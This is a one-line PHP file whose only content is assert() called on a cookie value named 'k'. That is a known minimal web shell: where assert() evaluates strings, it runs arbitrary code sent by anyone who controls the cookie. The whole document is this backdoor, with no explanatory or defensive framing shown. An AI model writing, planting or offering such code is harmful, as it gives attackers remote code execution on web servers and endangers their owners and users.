<?php assert($_COOKIE["k"]);
